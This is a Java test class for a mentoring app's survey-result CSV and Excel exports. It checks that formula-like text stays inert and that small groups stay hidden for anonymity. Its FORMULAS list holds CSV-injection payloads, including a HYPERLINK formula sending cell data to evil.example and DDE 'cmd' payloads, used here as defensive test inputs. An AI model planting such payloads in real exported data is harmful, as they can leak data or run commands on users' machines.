package org.binome.feedback;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.binome.identity.Role;
import org.binome.identity.TestUsers;
import org.binome.programs.ParticipantRole;
import org.binome.shared.SpreadsheetCsv;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import org.springframework.test.context.TestPropertySource;

/**
 * The aggregated results' CSV and Excel exports: a text typed by a participant or a label typed by an administrator
 * that starts like a formula stays text (CSV through {@link SpreadsheetCsv}, Excel as string cells, never a formula);
 * a group under the threshold and its smallest sibling are absent from both exports exactly as from the page, with the
 * thresholds the installation configures.
 */
@Tag("database")
// Thresholds of its own (the defaults are 5 and 10): the page and both exports must apply these. They also give the
// class a company of its own: another test's programme with two answers would hide this one as its smallest sibling.
@TestPropertySource(properties = {"binome.feedback.min-group-size=6", "binome.feedback.min-comments=12"})
class SurveyExportTests extends SurveyCompany {

    /** Texts a spreadsheet would run as formulas if they were written as they are. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Voir\")",
            "+cmd|' /C calc'!A0",
            "-10+20 devient une formule",
            "@SUM(1+9)*cmd|' /C calc'!A0");

    static final String ADMIN_LABEL = "=1+1 savoir-faire métier";

    @Autowired
    Answers answers;

    @Autowired
    SurveyStore store;

    @Autowired
    MessageSource messages;

    private void answer(long programme, String person, SurveyMoment moment, int level, String text) {
        var invitation = invitation(programme, person, moment);
        assertThat(answers.submit(
                        invitation.id(), person, everyQuestion(answers, invitation, 4, everywhere(level), text)))
                .isEmpty();
    }

    /** An administrator renames the end survey's first "learned back" choice (a new version of the survey). */
    private void labelTheFirstLearnedBackChoice(String label) {
        var survey = store.enabledFor(SurveyMoment.END).get(0);
        var row = store.find(survey.id()).orElseThrow();
        var current = store.version(store.currentVersionId(survey.id())).content();
        var questions = new ArrayList<SurveyDraft.Question>();
        for (var q : current.questions()) {
            if (q.measure() == Measure.LEARNED_BACK) {
                var options = new ArrayList<>(q.options());
                var first = options.get(0);
                options.set(0, new SurveyDraft.Option(first.code(), label, label));
                q = q.withOptions(options);
            }
            questions.add(q);
        }
        store.save(survey.id(), row.version(), current.withQuestions(questions));
    }

    private byte[] download(String path) throws Exception {
        var response = mvc.perform(get(path).with(user(TestUsers.withRoles(Role.ADMIN))))
                .andReturn()
                .getResponse();
        assertThat(response.getStatus()).as(path).isEqualTo(200);
        return response.getContentAsByteArray();
    }

    /** The CSV's lines after its header, as their cells. */
    private List<List<String>> csv(String query) throws Exception {
        var text = new String(download("/admin/surveys/results.csv?" + query), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        var lines = new ArrayList<List<String>>();
        try (var parser =
                CSVFormat.DEFAULT.builder().setDelimiter(';').get().parse(new StringReader(text.substring(1)))) {
            parser.forEach(record -> lines.add(record.toList()));
        }
        return lines.subList(1, lines.size());
    }

    /** The workbook's lines after its header, each cell with its type (formulas are refused here). */
    private List<List<String>> xlsx(String query) throws Exception {
        var lines = new ArrayList<List<String>>();
        try (var workbook =
                new XSSFWorkbook(new ByteArrayInputStream(download("/admin/surveys/results.xlsx?" + query)))) {
            var sheet = workbook.getSheetAt(0);
            for (var row : sheet) {
                var cells = new ArrayList<String>();
                for (int i = 0; i < 5; i++) {
                    var cell = row.getCell(i);
                    if (cell == null) {
                        cells.add("");
                        continue;
                    }
                    assertThat(cell.getCellType())
                            .as("row %d cell %d", row.getRowNum(), i)
                            .isIn(CellType.STRING, CellType.NUMERIC);
                    cells.add(
                            cell.getCellType() == CellType.STRING
                                    ? cell.getStringCellValue()
                                    : String.valueOf(cell.getNumericCellValue()));
                }
                lines.add(cells);
            }
        }
        return lines.subList(1, lines.size());
    }

    /** The respondent counts the results page shows for this filter ("8 répondants", "75 % (8 répondants)"). */
    private List<Integer> pageCounts(String query) throws Exception {
        var response = mvc.perform(get("/admin/surveys/results?" + query).with(user(TestUsers.withRoles(Role.ADMIN))))
                .andReturn()
                .getResponse();
        assertThat(response.getStatus()).isEqualTo(200);
        var page = org.jsoup.Jsoup.parse(response.getContentAsString());
        var counts = new ArrayList<Integer>();
        var shown = Pattern.compile("(\\d+) répondants?");
        for (var figure : page.select("main dd, main td")) {
            var matcher = shown.matcher(figure.text());
            while (matcher.find()) {
                counts.add(Integer.valueOf(matcher.group(1)));
            }
        }
        return counts;
    }

    @Test
    void exportsKeepFormulasInertAndLeaveOutWhatThePageHides() throws Exception {
        clock.morningOf(start());
        labelTheFirstLearnedBackChoice(ADMIN_LABEL);
        // three departments: 9 people (shown), 7 (the smallest sibling of the next), 5 (under this threshold of 6)
        var sizes = new LinkedHashMap<String, Integer>();
        sizes.put("Qualité", 9);
        sizes.put("Achats", 7);
        sizes.put("Juridique", 5);
        var participants = new LinkedHashMap<String, ParticipantRole>();
        var departments = new HashMap<String, String>();
        int n = 0;
        for (var entry : sizes.entrySet()) {
            for (int i = 0; i < entry.getValue(); i++, n++) {
                var role = n % 2 == 0 ? ParticipantRole.MENTOR : ParticipantRole.MENTEE;
                var person = employee(entry.getKey(), role == ParticipantRole.MENTOR ? 1998 : 1966);
                participants.put(person, role);
                departments.put(person, entry.getKey());
            }
        }
        var programme = programme(start().plusDays(30), start().plusDays(60), participants);
        var secrets = new HashMap<String, String>();
        int i = 0;
        for (var person : participants.keySet()) {
            invitations.invite(SurveyMoment.END, programme, person, participants.get(person), clock.today());
            var text = FORMULAS.get(i % FORMULAS.size()) + " n°" + i;
            secrets.put(person, text);
            answer(programme, person, SurveyMoment.ENROLMENT, 1, "Au départ " + i);
            answer(programme, person, SurveyMoment.END, 3, text);
            i++;
        }
        var names = List.copyOf(sizes.keySet());
        var shown = names.get(0);
        var sibling = names.get(1);
        var small = names.get(2);
        var hidden = messages.getMessage("feedback.results.hidden", null, Locale.FRENCH);

        // the whole programme: 21 respondents, comments shown (21 authors), each formula written as text
        var all = "programme=" + programme;
        var csv = csv(all);
        var xlsx = xlsx(all);
        assertThat(pageCounts(all)).contains(21);
        for (var formula : FORMULAS) {
            var quote = formula + " n°";
            assertThat(csv.stream().flatMap(List::stream).filter(c -> c.contains(quote)))
                    .isNotEmpty()
                    .allSatisfy(c -> assertThat(c).startsWith("'" + formula));
            assertThat(xlsx.stream().flatMap(List::stream).filter(c -> c.contains(quote)))
                    .isNotEmpty()
                    .allSatisfy(c -> assertThat(c).startsWith(formula));
        }
        assertThat(csv).anySatisfy(line -> assertThat(line.get(1)).isEqualTo("'" + ADMIN_LABEL));
        assertThat(xlsx).anySatisfy(line -> assertThat(line.get(1)).isEqualTo(ADMIN_LABEL));
        for (var line : csv) {
            for (int c : new int[] {0, 1, 4}) {
                assertThat(line.get(c)).as("text cell %s", line).doesNotMatch("(?s)^\\s*[=+\\-@\\t\\r\\n].*");
            }
        }
        assertSameNumbers(csv, xlsx);

        // the shown department: its figures, as on the page; its 9 comments stay hidden (12 authors needed)
        var shownQuery = all + "&department=" + shown;
        assertThat(pageCounts(shownQuery))
                .isNotEmpty()
                .allSatisfy(c -> assertThat(c).isEqualTo(9));
        assertThat(respondents(csv(shownQuery)))
                .isNotEmpty()
                .allSatisfy(c -> assertThat(c).isEqualTo(9));
        assertThat(respondents(xlsx(shownQuery)))
                .isNotEmpty()
                .allSatisfy(c -> assertThat(c).isEqualTo(9));
        assertNoComment(csv(shownQuery), secrets);

        // the small department (5, shown under the default threshold) and its smallest sibling: nothing on the page,
        // nothing in either export
        for (var department : List.of(small, sibling)) {
            var query = all + "&department=" + department;
            assertThat(pageCounts(query)).as(department).isEmpty();
            for (var lines : List.of(csv(query), xlsx(query))) {
                assertThat(lines).isNotEmpty();
                for (var line : lines) {
                    assertThat(line.get(2)).as("respondents of %s", line).isEmpty();
                    assertThat(line.get(3)).as("value of %s", line).isEmpty();
                    assertThat(line.get(4)).as(line.toString()).isEqualTo(hidden);
                }
                assertNoComment(lines, secrets);
            }
        }
    }

    private static List<Integer> respondents(List<List<String>> lines) {
        return lines.stream()
                .map(line -> line.get(2))
                .filter(cell -> !cell.isEmpty())
                .map(cell -> (int) Double.parseDouble(cell))
                .toList();
    }

    private static void assertNoComment(List<List<String>> lines, Map<String, String> secrets) {
        for (var line : lines) {
            for (var text : secrets.values()) {
                assertThat(String.join(";", line)).doesNotContain(text.substring(1));
            }
        }
    }

    /** Both exports say the same: the same lines, the same counts and values. */
    private static void assertSameNumbers(List<List<String>> csv, List<List<String>> xlsx) {
        assertThat(xlsx).hasSameSizeAs(csv);
        for (int i = 0; i < csv.size(); i++) {
            for (int c : new int[] {2, 3}) {
                var a = csv.get(i).get(c);
                var b = xlsx.get(i).get(c);
                if (a.isEmpty() || b.isEmpty()) {
                    assertThat(b).as("line %d", i).isEqualTo(a);
                } else {
                    assertThat(Double.parseDouble(b)).as("line %d", i).isEqualTo(Double.parseDouble(a));
                }
            }
        }
    }
}
